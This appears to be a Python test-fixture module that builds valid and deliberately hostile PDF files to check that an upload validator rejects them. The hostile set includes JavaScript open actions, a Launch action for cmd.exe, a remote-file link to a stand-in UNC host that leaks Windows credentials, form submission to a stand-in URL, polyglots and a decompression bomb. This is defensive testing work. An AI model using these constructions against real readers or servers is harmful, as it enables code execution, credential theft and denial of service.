"""PDF files for tests, written object by object: good ones, and everything that must not come in as a document."""

from __future__ import annotations

import io
import zipfile
import zlib
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter

CATALOG, PAGES, FIRST_PAGE = 1, 2, 3


def pdf(
    *objects: bytes, catalog: str = "", page: str = "", pages: int = 1, trailer: str = "", title: str = ""
) -> bytes:
    """A PDF of blank pages with a text on each; ``objects`` follow as numbers from ``first_free(pages)`` on."""
    kids = " ".join(f"{FIRST_PAGE + 2 * number} 0 R" for number in range(pages))
    body = [
        f"<< /Type /Catalog /Pages {PAGES} 0 R {catalog} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
    ]
    for number in range(pages):
        body.append(
            f"<< /Type /Page /Parent {PAGES} 0 R /MediaBox [0 0 300 400] "
            f"/Contents {FIRST_PAGE + 2 * number + 1} 0 R {page} >>".encode()
        )
        body.append(stream(f"BT /F1 12 Tf 20 20 Td (Trang {number + 1}) Tj ET".encode()))
    body += objects
    if title:
        body.append(b"<< /Title <FEFF" + title.encode("utf-16-be").hex().encode() + b"> >>")
        trailer += f" /Info {len(body)} 0 R"
    return assembled(body, trailer)


def first_free(pages: int = 1) -> int:
    """The number of the first object that is not the catalogue's or a page's."""
    return FIRST_PAGE + 2 * pages


def stream(content: bytes, more: str = "") -> bytes:
    """A stream object, without its number."""
    return f"<< /Length {len(content)} {more} >>\nstream\n".encode() + content + b"\nendstream"


def assembled(body: list[bytes], trailer: str = "") -> bytes:
    """A file of the objects 1, 2, 3 ... with their table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, item in enumerate(body, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + item + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(body) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(body) + 1} /Root {CATALOG} 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def packed(hidden: bytes, catalog: str, kind: str = "/Type /ObjStm") -> bytes:
    """A PDF whose object 5 stands compressed in an object stream and is known to a cross-reference stream only."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    body = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] >>",
        stream(zlib.compress(b"5 0 " + hidden), f"{kind} /N 1 /First 4 /Filter /FlateDecode"),
    ]
    table = [(0, 0, 65535)]
    for number, item in enumerate(body, 1):
        table.append((1, len(out), 0))
        out += f"{number} 0 obj\n".encode() + item + b"\nendobj\n"
    start = len(out)
    table += [(2, 4, 0), (1, start, 0)]
    rows = b"".join(bytes([one]) + two.to_bytes(4, "big") + three.to_bytes(2, "big") for one, two, three in table)
    entries = stream(zlib.compress(rows), "/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode")
    out += b"6 0 obj\n" + entries + f"\nendobj\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def encrypted(password: str) -> bytes:
    """A locked PDF; with an empty password it opens, and is still locked against changes."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(password, owner_password="chu", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zipped() -> bytes:
    """A small archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.html", "<script>alert(1)</script>")
    return out.getvalue()


def loop(kids: str) -> bytes:
    """A PDF whose page tree says ``kids`` of itself."""
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Kids [{kids}] /Count 1000000 >>".encode(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] >>",
        ]
    )


def wide_tree() -> bytes:
    """Ten levels of page tree, each ten times the next: ten thousand million pages in two kilobytes."""
    levels = [f"<< /Type /Pages /Kids [{f'{number + 1} 0 R ' * 10}] /Count 10 >>".encode() for number in range(2, 12)]
    page = b"<< /Type /Page /MediaBox [0 0 300 400] >>"
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", *levels, page])


def endless_table() -> bytes:
    """A cross-reference table that says it continues where it begins."""
    content = pdf()
    start = content.rindex(b"\nxref\n") + 1
    return content.replace(b"/Root 1 0 R", f"/Prev {start} /Root 1 0 R".encode())


def bomb() -> bytes:
    """An object stream of 100 kB that becomes 100 MB."""
    content = zlib.compress(b"5 0 " + b" " * 100_000_000, 9)
    return pdf(stream(content, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"))


SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@dataclass(frozen=True)
class Bad:
    """A file that must not come in, and the code of its refusal (empty: any)."""

    name: str
    content: bytes
    code: str = ""


def hostile() -> list[Bad]:
    """The hostile set."""
    good = pdf(pages=3)
    free = first_free()
    attached = f"/AF [{free} 0 R]"
    names = "/Names << /EmbeddedFiles << /Names [(a) << /F (a.txt) /EF << /F 5 0 R >> >>] >> >>"
    found = [
        Bad("zero bytes", b"", "empty"),
        Bad("one byte", b"%", "format"),
        Bad("header only", b"%PDF-1.7\n", "unreadable"),
        Bad("header and end", b"%PDF-1.7\n%%EOF\n", "unreadable"),
        Bad("html", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "format"),
        Bad("html before", b"<html><script>alert(1)</script></html>" + good, "format"),
        Bad("html behind", good + b"<html><script>alert(1)</script></html>", "extra"),
        Bad("gif before", b"GIF89a" + good, "format"),
        Bad("zip behind", good + zipped(), "extra"),
        Bad("zip inside", pdf(stream(zipped())), "extra"),
        Bad("zip", zipped(), "format"),
        Bad("picture", b"\xff\xd8\xff\xe0" + b"\0" * 500, "format"),
        Bad("other version", good.replace(b"%PDF-1.7", b"%PDF-9.7"), "format"),
        Bad("password", encrypted("mat-khau"), "encrypted"),
        Bad("locked", encrypted(""), "encrypted"),
        Bad("script at opening", pdf(catalog=f"/OpenAction {SCRIPT}"), "script"),
        Bad("script by reference", pdf(SCRIPT.encode(), catalog=f"/OpenAction {free} 0 R"), "script"),
        Bad("script in names", pdf(catalog=f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"), "script"),
        Bad("script of a page", pdf(page=f"/AA << /O {SCRIPT} >>"), "script"),
        Bad("script of a link", pdf(page=f"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A {SCRIPT} >>]"), "script"),
        Bad("script spelt", pdf(catalog="/OpenAction << /S /J#61vaScript /#4a#53 (x) >>"), "script"),
        Bad("script that nothing names", pdf(SCRIPT.encode()), "script"),
        Bad("script packed", packed(SCRIPT.encode(), "/OpenAction 5 0 R"), "script"),
        Bad("script packed, untyped", packed(SCRIPT.encode(), "/OpenAction 5 0 R", kind=""), "script"),
        Bad(
            "script in a comment", good.replace(b"\nxref\n", b"\n% 9 0 obj " + SCRIPT.encode() + b"\nxref\n"), "script"
        ),
        Bad("script in a stream", pdf(stream(b"9 0 obj " + SCRIPT.encode() + b" endobj")), "script"),
        Bad("script behind a false end", pdf(b"<< /A endobj /OpenAction " + SCRIPT.encode() + b" >>"), "script"),
        Bad("script in the trailer", pdf(trailer=f"/X {SCRIPT}"), "script"),
        Bad("launch", pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), "launch"),
        # A link to another file: readers ask the server that it names, with the reader's own account on Windows.
        Bad("other file", pdf(catalog=r"/OpenAction << /S /GoToR /F (\\\\a.example\\b.pdf) /D [0 /Fit] >>"), "launch"),
        Bad("sends a form", pdf(page="/AA << /O << /S /SubmitForm /F (http://a.example) >> >>"), "launch"),
        Bad("embedded", pdf(stream(b"x", "/Type /EmbeddedFile"), catalog=names), "embedded"),
        Bad("associated", pdf(b"<< /F (a) /EF << /F 4 0 R >> >>", catalog=attached), "embedded"),
        Bad("attachment on a page", pdf(page="/Annots [<< /Subtype /FileAttachment /FS << >> >>]"), "embedded"),
        Bad("film", pdf(page="/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]"), "media"),
        Bad("program as form", pdf(stream(b"<xdp/>"), catalog=f"/AcroForm << /XFA {free} 0 R >>"), "xfa"),
        Bad("shorter than it says", pdf(catalog="/Linearized 1 /L 999999"), "unreadable"),
        Bad("no pages", loop(""), "empty"),
        Bad("tree in itself", loop("2 0 R"), "unreadable"),
        Bad("page twice", loop("3 0 R 3 0 R"), "unreadable"),
        Bad("pages that are no list", loop("").replace(b"/Kids []", b"/Kids 17"), "unreadable"),
        Bad("wide tree", wide_tree()),
        Bad("no page tree", assembled([b"<< /Type /Catalog >>"]), "unreadable"),
        Bad("page without its text", pdf().replace(b"/Contents 4 0 R", b"/Contents 99 0 R"), "unreadable"),
        Bad(
            "many pages", assembled([b"<< /Pages 2 0 R >>", b"<< /Kids [" + b"<< /A 1 >> " * 6000 + b"] >>"]), "complex"
        ),
        Bad("many objects", pdf().replace(b"\nxref\n", b"\n9 0 obj 1 endobj" * 150_001 + b"\nxref\n"), "complex"),
        Bad("objects in objects", b"%PDF-1.4\n" + b"1 0 obj (" * 300_000 + b"\n%%EOF", "complex"),
        Bad(
            "deep",
            pdf(b"[" * 50_000 + b"]" * 50_000, catalog=f"/X {free} 0 R").replace(b"/Kids [3 0 R]", b"/Kids 5 0 R"),
        ),
        Bad("bomb", bomb()),
    ]
    found += [Bad(f"cut at {share} %", good[: len(good) * share // 100], "unreadable") for share in range(5, 100, 10)]
    found += [Bad(f"cut by {count}", good[:-count], "unreadable") for count in (3, 8, 20)]
    return found
